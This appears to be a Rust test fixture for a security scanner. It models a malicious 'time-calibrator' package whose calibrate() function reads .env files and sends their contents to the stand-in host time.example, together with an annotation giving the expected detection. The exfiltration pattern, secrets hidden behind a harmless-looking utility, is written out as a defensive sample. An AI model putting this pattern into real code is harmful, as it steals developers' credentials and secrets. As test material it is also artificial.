// The technique of time_calibrator (2026): a time utility sends `.env` files to a host of a trusted-looking name.
//@ package: time-calibrator
//@ deps: ureq
//@ finds: secret-place warn time-calibrator
//@ file: src/lib.rs
pub fn calibrate() {
    for dir in ["..", "."] {
        let path = std::path::Path::new(dir).join(".env");
        if let Ok(text) = std::fs::read_to_string(&path) {
            ureq::get(&format!("https://time.example/api?{text}"));
        }
    }
}
//@ package: ureq
//@ file: src/lib.rs
pub fn get(url: &str) -> Vec<u8> {
    let _ = std::net::TcpStream::connect(url);
    Vec::new()
}
